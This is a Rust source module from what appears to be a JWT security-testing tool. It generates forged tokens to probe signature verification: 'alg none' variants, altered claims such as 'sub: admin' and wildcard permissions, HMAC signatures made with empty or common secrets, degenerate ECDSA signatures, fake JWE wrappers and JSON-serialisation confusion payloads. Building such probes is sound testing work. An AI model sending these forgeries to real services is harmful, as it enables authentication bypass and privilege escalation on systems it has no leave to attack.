//! Attacks on the signature and on the algorithm that names it (SIG).

use doorward_jose::{algorithm::Algorithm, base64url, json::Value};
use serde_json::json;

use super::{Workshop, text};
use crate::der;

pub(super) fn forge(workshop: &mut Workshop<'_>) {
    unsigned(workshop);
    unknown_algorithms(workshop);
    damaged(workshop);
    changed(workshop);
    trivial_secrets(workshop);
    degenerate_ecdsa(workshop);
    encrypted(workshop);
    json_serialisations(workshop);
}

fn unsigned(workshop: &mut Workshop<'_>) {
    for name in ["none", "None", "NONE", "nOnE"] {
        let header = base64url::encode(text(workshop.header_with("alg", name)));
        let input = format!("{header}.{}", workshop.payload_part);
        let kept = format!("{input}.{}", workshop.signature_part);
        workshop.add(
            "SIG-001",
            format!("alg {name}, empty signature"),
            format!("{input}."),
        );
        workshop.add("SIG-002", format!("alg {name}, genuine signature"), kept);
        workshop.add("SIG-002", format!("alg {name}, two parts"), input);
    }
    let input = format!("{}.{}", workshop.header_part, workshop.payload_part);
    workshop.add("SIG-005", "empty signature", format!("{input}."));
    let detached = format!("{}..{}", workshop.header_part, workshop.signature_part);
    workshop.add("SIG-029", "empty payload", detached);
}

fn unknown_algorithms(workshop: &mut Workshop<'_>) {
    for name in ["foo", "", "hs256", " HS256", "RS256\0"] {
        let header = base64url::encode(text(workshop.header_with("alg", name)));
        let input = format!("{header}.{}", workshop.payload_part);
        workshop.add(
            "SIG-003",
            format!("alg {name:?}, empty signature"),
            format!("{input}."),
        );
        let arbitrary = base64url::encode([0x5a; 32]);
        let token = format!("{input}.{arbitrary}");
        workshop.add(
            "SIG-003",
            format!("alg {name:?}, arbitrary signature"),
            token,
        );
    }
    let genuine = workshop.header.get("alg").cloned().unwrap_or_default();
    for value in [
        json!(1),
        Value::Null,
        json!([genuine]),
        json!({ "alg": genuine }),
    ] {
        let token = workshop.with_header(text(workshop.header_with("alg", value.clone())));
        workshop.add("SIG-004", format!("alg {value}"), token);
    }
}

fn damaged(workshop: &mut Workshop<'_>) {
    let signature = workshop.signature.clone();
    let length = signature.len();
    for (place, at) in [
        ("first", 0),
        ("middle", length / 2),
        ("last", length.saturating_sub(1)),
    ] {
        let mut flipped = signature.clone();
        if let Some(byte) = flipped.get_mut(at) {
            *byte ^= 1;
            let token = workshop.with_signature(&flipped);
            workshop.add("SIG-006", format!("{place} byte flipped"), token);
        }
    }
    for (what, cut) in [
        ("one byte", 1),
        ("four bytes", 4),
        ("half", length.div_ceil(2)),
    ] {
        let token = workshop.with_signature(&signature[..length.saturating_sub(cut)]);
        workshop.add("SIG-006", format!("{what} cut"), token);
    }
    let longer = [signature.as_slice(), &[0]].concat();
    workshop.add(
        "SIG-006",
        "one byte added",
        workshop.with_signature(&longer),
    );
    let ecdsa = workshop
        .algorithm()
        .and_then(group_order)
        .is_some_and(|order| {
            // Otherwise the token is not what its header says.
            length == order.len() * 2
        });
    if ecdsa {
        let token = workshop.with_signature(&der::ecdsa_signature(&signature));
        workshop.add("SIG-016", "genuine r and s in DER", token);
    }
}

fn changed(workshop: &mut Workshop<'_>) {
    for (name, value) in [
        ("sub", json!("admin")),
        ("exp", json!(4_102_444_800_u64)),
        ("tenant", json!("another-tenant")),
        ("role", json!("admin")),
        ("roles", json!(["admin"])),
        ("permissions", json!(["*"])),
        ("scope", json!("admin")),
    ] {
        let mut claims = workshop.claims.clone();
        claims.insert(name.to_owned(), value);
        let token = workshop.with_payload(text(claims));
        workshop.add("SIG-007", format!("claim {name} changed"), token);
    }
    for (name, value) in [("typ", "changed"), ("kid", "changed"), ("extra", "member")] {
        let token = workshop.with_header(text(workshop.header_with(name, value)));
        workshop.add("SIG-008", format!("header {name} changed"), token);
    }
}

const HMACS: [Algorithm; 3] = [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512];

fn trivial_secrets(workshop: &mut Workshop<'_>) {
    let mut without_kid = workshop.header.clone();
    without_kid.remove("kid");
    let headers = [
        ("genuine kid", workshop.header.clone()),
        ("unknown kid", workshop.header_with("kid", "unknown")),
        ("no kid", without_kid),
    ];
    for algorithm in HMACS {
        for (kid, header) in &headers {
            // HMAC pads keys with zeros: an empty key is also any few NULs.
            if let Some(token) = workshop.hmac(algorithm, header.clone(), b"") {
                workshop.add("SIG-010", format!("{algorithm}, empty key, {kid}"), token);
            }
        }
    }
    for secret in trivial(workshop) {
        let header = workshop.header.clone();
        if let Some(token) = workshop.hmac(Algorithm::Hs256, header, secret.as_bytes()) {
            workshop.add("SIG-011", format!("key {secret:?}"), token);
        }
    }
}

/// Words that people use, and words that the token itself gives away.
fn trivial(workshop: &Workshop<'_>) -> Vec<String> {
    let common = [
        "null",
        "undefined",
        "secret",
        "password",
        "changeme",
        "key",
        "jwt",
        "your-256-bit-secret",
        "test",
    ];
    let told = [
        workshop.header.get("kid"),
        workshop.claims.get("iss"),
        workshop.claims.get("aud"),
    ];
    let told: Vec<&str> = told
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    let hosts = told
        .iter()
        .filter_map(|url| url.split_once("://"))
        .map(|(_, host)| host);
    let mut words: Vec<String> = common
        .into_iter()
        .chain(told.iter().copied())
        .chain(hosts)
        .map(str::to_owned)
        .collect();
    words.sort();
    words.dedup();
    words
}

fn degenerate_ecdsa(workshop: &mut Workshop<'_>) {
    // Against a token of another family the header is changed as well.
    let genuine = workshop
        .algorithm()
        .filter(|algorithm| group_order(*algorithm).is_some());
    let algorithm = genuine.unwrap_or(Algorithm::Es256);
    let Some(order) = group_order(algorithm) else {
        return;
    };
    let header = text(workshop.header_with("alg", algorithm.name()));
    let header = base64url::encode(header);
    let zero = vec![0; order.len()];
    let (mut one, mut before) = (zero.clone(), order.clone());
    if let (Some(last), Some(end)) = (one.last_mut(), before.last_mut()) {
        *last = 1;
        *end -= 1; // the orders are odd
    }
    for (what, r, s) in [
        ("r = 0, s = 0", &zero, &zero),
        ("r = 0, s = 1", &zero, &one),
        ("r = 1, s = 0", &one, &zero),
        ("r = n, s = n", &order, &order),
        ("r = n - 1, s = n - 1", &before, &before),
    ] {
        let signature = base64url::encode([r.as_slice(), s].concat());
        let token = format!("{header}.{}.{signature}", workshop.payload_part);
        workshop.add("SIG-014", format!("{algorithm}, {what}"), token);
    }
}

/// Order of the algorithm's group (FIPS 186-4 appendix D.1.2), as long as one
/// half of a signature.
pub(super) fn group_order(algorithm: Algorithm) -> Option<Vec<u8>> {
    let (head, tail): (&[u8], &[u8]) = match algorithm {
        Algorithm::Es256 => (
            b"\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff",
            b"\xbc\xe6\xfa\xad\xa7\x17\x9e\x84\xf3\xb9\xca\xc2\xfc\x63\x25\x51",
        ),
        Algorithm::Es384 => (
            &[0xff; 24],
            b"\xc7\x63\x4d\x81\xf4\x37\x2d\xdf\x58\x1a\x0d\xb2\x48\xb0\xa7\x7a\xec\xec\x19\x6a\
              \xcc\xc5\x29\x73",
        ),
        Algorithm::Es512 => (
            b"\x01\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\
              \xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xfa",
            b"\x51\x86\x87\x83\xbf\x2f\x96\x6b\x7f\xcc\x01\x48\xf7\x09\xa5\xd0\x3b\xb5\xc9\xb8\
              \x89\x9c\x47\xae\xbb\x6f\xb7\x1e\x91\x38\x64\x09",
        ),
        _ => return None,
    };
    Some([head, tail].concat())
}

/// Shapes of JWE: a verifier that decrypts first and asks for a signature
/// later has been fooled. The ciphertext is not real, because encrypting to the
/// published key needs no secret of the target and is left to a later tier.
fn encrypted(workshop: &mut Workshop<'_>) {
    let none = base64url::encode(r#"{"alg":"none"}"#);
    let inner = base64url::encode(format!("{none}.{}.", workshop.payload_part));
    let (nonce, tag) = (base64url::encode([0; 12]), base64url::encode([0; 16]));
    for (alg, key) in [
        ("RSA-OAEP", base64url::encode([0x5a; 256])),
        ("RSA-OAEP-256", base64url::encode([0x5a; 256])),
        ("RSA1_5", base64url::encode([0x5a; 256])),
        ("dir", String::new()),
    ] {
        let mut header = workshop.header_with("alg", alg);
        header.insert("enc".to_owned(), "A256GCM".into());
        header.insert("cty".to_owned(), "JWT".into());
        let header = base64url::encode(text(header));
        let five = format!("{header}.{key}.{nonce}.{inner}.{tag}");
        workshop.add("SIG-024", format!("five parts, alg {alg}"), five);
        let three = format!(
            "{header}.{}.{}",
            workshop.payload_part, workshop.signature_part
        );
        workshop.add("SIG-024", format!("three parts, alg {alg}"), three);
    }
}

fn json_serialisations(workshop: &mut Workshop<'_>) {
    let (header, payload, signature) = (
        workshop.header_part,
        workshop.payload_part,
        workshop.signature_part,
    );
    let one = json!({ "protected": header, "signature": signature });
    let bad = json!({ "protected": header, "signature": base64url::encode([0; 64]) });
    let flattened = json!({ "payload": payload, "protected": header, "signature": signature });
    workshop.add("SIG-026", "flattened", flattened.to_string());
    for (what, signatures) in [
        ("general", json!([one])),
        ("general, good then bad signature", json!([one, bad])),
        ("general, bad then good signature", json!([bad, one])),
    ] {
        let token = json!({ "payload": payload, "signatures": signatures }).to_string();
        workshop.add("SIG-026", what, token);
    }
    let mut claims = workshop.claims.clone();
    claims.insert("sub".to_owned(), "admin".into());
    let forged = base64url::encode(text(claims));
    let members =
        format!(r#""protected":"{header}","payload":"{payload}","signature":"{signature}""#);
    let name = format!(r#"{{"{header}.{forged}.{signature}":"",{members}}}"#);
    workshop.add("SIG-027", "compact form as a member's name", name);
    let value = format!(r#"{{"a":".{forged}.",{members}}}"#);
    workshop.add(
        "SIG-027",
        "forged payload between dots in a member's value",
        value,
    );
    let tail = format!("{}.{}", workshop.valid, r#"{"payload":"#) + &format!(r#""{forged}"}}"#);
    workshop.add("SIG-027", "JSON after the compact form", tail);
}
